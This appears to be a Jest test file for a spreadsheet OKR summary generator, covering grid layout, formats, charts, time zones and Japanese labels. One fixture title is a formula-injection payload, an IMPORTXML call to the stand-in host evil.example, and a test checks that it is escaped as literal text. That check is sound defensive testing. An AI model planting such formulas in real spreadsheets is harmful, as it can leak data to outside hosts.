// The Summary tab's cells: contiguous equal-width blocks, formula-safe text, formats that line up
// with values, the chart pointed at the objectives' IDs and progress, both languages.
import { formatInZone, GRID_WIDTH, progressBar, sheetText } from '../../../../src/okr/summary/summaryCells';
import { mergeBlocks, summaryToGrid } from '../../../../src/okr/summary/summaryGrid';
import { checkIn, DAY, keyResult, NOW, objective, person, problemAt, roster, summarize } from './fixtures';

const ana = 'ana@example.com';

function demoModel(lang: 'en' | 'ja' = 'en') {
  const o1 = objective('O1', {
    owner: ana,
    ownerText: ana,
    title: '=IMPORTXML("http://evil.example","//a")',
  });
  const k1 = keyResult('O1.1', 'O1', { owner: ana, progress: 80, confidence: 'on-track' });
  const k2 = keyResult('O1.2', 'O1', {
    ownerText: '@growth',
    progress: 20,
    confidence: 'off-track',
    title: '+1 NPS',
  });
  const o2 = objective('O2', { title: '1.10' });
  return summarize([o1, k1, k2, o2], {
    lang,
    roster: roster([person(ana, '-Ana-', 'Core')]),
    checkIns: [checkIn('O1.1', 9, 50)],
    problems: [problemAt('owner-not-person', k2, 'Key result O1.2 is owned by "@growth"')],
  });
}

/** The text a cell shows: Sheets drops one leading apostrophe. */
const shown = (v: unknown) => (typeof v === 'string' && v.startsWith("'") ? v.slice(1) : v);

describe('summaryToGrid', () => {
  test('blocks are contiguous from row 1, every row GRID_WIDTH wide, formats the same shape', () => {
    const grid = summaryToGrid(demoModel(), 'en', 'America/New_York');
    expect(grid.blocks.map((b) => b.section)).toEqual([
      'header',
      'headline',
      // The demo has check-in history: its weeks are the objectives' Trend column, no section of its own.
      'objectives',
      'attention',
      'owners',
      'teams',
    ]);
    let row = 1;
    for (const b of grid.blocks) {
      expect(b.startRow).toBe(row);
      row += b.values.length;
      for (const kind of [b.values, b.backgrounds, b.fontWeights, b.numberFormats]) {
        expect(kind).toHaveLength(b.values.length);
        for (const r of kind) expect(r).toHaveLength(GRID_WIDTH);
      }
    }
    expect(grid.rows).toBe(row - 1);
    const all = mergeBlocks(grid);
    expect(all.values).toHaveLength(grid.rows);
  });

  test('no cell is a formula: text from the sheet keeps = + - @ as visible text', () => {
    const grid = summaryToGrid(demoModel(), 'en', 'UTC');
    const cells = mergeBlocks(grid).values.flat();
    for (const v of cells) {
      if (typeof v === 'string' && /^[=+\-@]/.test(v)) throw new Error(`formula-like cell: ${v}`);
    }
    const texts = cells.map(shown);
    expect(texts).toContain('=IMPORTXML("http://evil.example","//a")');
    expect(texts).toContain('+1 NPS');
    expect(texts).toContain('@growth');
    expect(texts).toContain('-Ana-');
    // Numbers and dates typed as titles stay text too.
    expect(cells).toContain("'1.10");
  });

  test('sheetText always stores text literally', () => {
    expect(sheetText('=SUM(A1)')).toBe("'=SUM(A1)");
    expect(sheetText('2026-12-01')).toBe("'2026-12-01");
    expect(sheetText("'quoted")).toBe("''quoted");
    expect(sheetText('')).toBe('');
  });

  test('objectives rows: progress as a fraction with a percent format, bar, score, band colour', () => {
    const grid = summaryToGrid(demoModel(), 'en', 'UTC');
    const b = grid.blocks.find((x) => x.section === 'objectives');
    if (!b) throw new Error('no objectives block');
    // heading, column headers, O1, O2, blank
    expect(b.values).toHaveLength(5);
    const [id, , progress, bar, score, status, owner, krs, atRisk, change] = b.values[2];
    expect([shown(id), shown(owner), progress, bar, score, status, krs, atRisk]).toEqual([
      'O1',
      '-Ana-',
      0.5,
      '█████░░░░░',
      0.5,
      'Yellow (0.4–0.7)',
      2,
      1,
    ]);
    // O1.1 went 50 → 80 since last week, O1.2 has no baseline: the objective moved 15 points.
    expect(change).toBe(15);
    expect(b.numberFormats[2].slice(2, 5)).toEqual(['0%', '0.###############', '0.0']);
    expect(b.backgrounds[2][5]).toBe('#fce8b2');
    expect(b.values[3].slice(2, 6)).toEqual(['', '', '', '']);
  });

  test('the chart reads the Objective and Progress columns of the objectives, with their header row', () => {
    const grid = summaryToGrid(demoModel(), 'en', 'UTC');
    const b = grid.blocks.find((x) => x.section === 'objectives');
    if (!b || !grid.chart) throw new Error('missing');
    expect(grid.chart.range).toEqual({ row: b.startRow + 1, column: 2, numRows: 3, numColumns: 2 });
    const all = mergeBlocks(grid).values;
    const header = all[grid.chart.range.row - 1];
    expect([shown(header[1]), shown(header[2])]).toEqual(['Objective', 'Progress']);
    expect(all[grid.chart.range.row][2]).toBe(0.5);
    expect(all[grid.chart.range.row + 1][1]).toBe("'1.10");
    expect(grid.chart.anchor.column).toBeGreaterThan(GRID_WIDTH);
  });

  test('attention rows carry the reason, the row and the cell to fix', () => {
    const grid = summaryToGrid(demoModel(), 'en', 'UTC');
    const b = grid.blocks.find((x) => x.section === 'attention');
    if (!b) throw new Error('no attention block');
    const rows = b.values.slice(2, -1).map((r) => r.map(shown));
    expect(rows.map((r) => [r[0], r[1]])).toEqual([
      ['Off track', 'O1.2'],
      ['Owned by a team, not a person', 'O1.2'],
    ]);
    expect(rows[1][5]).toMatch(/^OKRs!E\d+$/);
    // Off track says why, not a blank (its Confidence cell: model.test.ts).
    expect(rows[0][8]).toMatch(/^Off track /);
    expect(rows[1][8]).toBe('Key result O1.2 is owned by "@growth"');
  });

  test('header says it is generated, how to refresh, and when in the spreadsheet time zone', () => {
    const grid = summaryToGrid(demoModel(), 'en', 'Asia/Tokyo');
    const header = grid.blocks[0].values.map((r) => r.map(shown));
    expect(header[1][0]).toContain('Extensions → OKR Owners → Refresh summary');
    expect(header[2][1]).toBe(`${formatInZone(NOW, 'Asia/Tokyo', true)} (Asia/Tokyo)`);
    expect(formatInZone(Date.UTC(2026, 10, 26, 15, 30), 'Asia/Tokyo', true)).toBe('2026-11-27 00:30');
    expect(formatInZone(Date.UTC(2026, 10, 26, 15, 30), 'America/New_York')).toBe('2026-11-26');
    expect(header[3][1]).toBe('2026-Q4');
  });

  test('Japanese headings', () => {
    const en = mergeBlocks(summaryToGrid(demoModel('en'), 'en', 'UTC')).values;
    const ja = mergeBlocks(summaryToGrid(demoModel('ja'), 'ja', 'UTC')).values;
    expect(ja).toHaveLength(en.length);
    expect(shown(ja[0][0])).toBe('OKRサマリー');
    expect(ja.flat().map(shown)).toContain('目標');
    expect(ja.flat().map(shown)).toContain('黄（0.4〜0.7）');
    expect(ja.flat().map(shown)).not.toContain('Objectives');
  });

  test('empty sheet: header and a message to run Set up, no chart', () => {
    const grid = summaryToGrid(summarize([]), 'en', 'UTC');
    expect(grid.blocks.map((b) => b.section)).toEqual(['header', 'empty']);
    expect(shown(grid.blocks[1].values[0][0])).toMatch(/No OKRs yet.*Set up OKR sheet/);
    expect(grid.chart).toBeNull();
  });

  test('one objective without key results: one table row, chart with one bar and no value', () => {
    const grid = summaryToGrid(summarize([objective('O1')]), 'en', 'UTC');
    const b = grid.blocks.find((x) => x.section === 'objectives');
    expect(b?.values).toHaveLength(4);
    expect(grid.chart?.range.numRows).toBe(2);
    const att = grid.blocks.find((x) => x.section === 'attention');
    expect(shown(att?.values[2][0])).toBe('Nothing needs attention.');
  });

  test('progress bar has ten cells and rounds to the nearest 10%', () => {
    expect(progressBar(0)).toBe('░░░░░░░░░░');
    expect(progressBar(44)).toBe('████░░░░░░');
    expect(progressBar(100)).toBe('██████████');
    expect(progressBar(null)).toBe('');
  });

  test('an owner of many key results lists the first IDs and how many more', () => {
    const krs = Array.from({ length: 20 }, (_, i) =>
      keyResult(`K${i + 1}`, 'O1', { owner: ana, progress: i }),
    );
    const grid = summaryToGrid(
      summarize([objective('O1'), ...krs], { roster: roster([person(ana, 'Ana')]) }),
      'en',
      'UTC',
    );
    const b = grid.blocks.find((x) => x.section === 'owners');
    const owns = shown(b?.values[2][5]) as string;
    expect(owns.startsWith('K1, K2, K3')).toBe(true);
    expect(owns.endsWith('… and 5 more')).toBe(true);
    expect(b?.values[2][4]).toBe(20);
    expect(shown(b?.values[2][7])).toBe('');
  });

  test('last check-in shows as a date in the spreadsheet time zone', () => {
    const kr = keyResult('K1', 'O1', { owner: ana, lastCheckIn: NOW - 2 * DAY });
    const grid = summaryToGrid(summarize([objective('O1'), kr]), 'en', 'UTC');
    const b = grid.blocks.find((x) => x.section === 'owners');
    expect(shown(b?.values[2][7])).toBe(formatInZone(NOW - 2 * DAY, 'UTC'));
  });
});
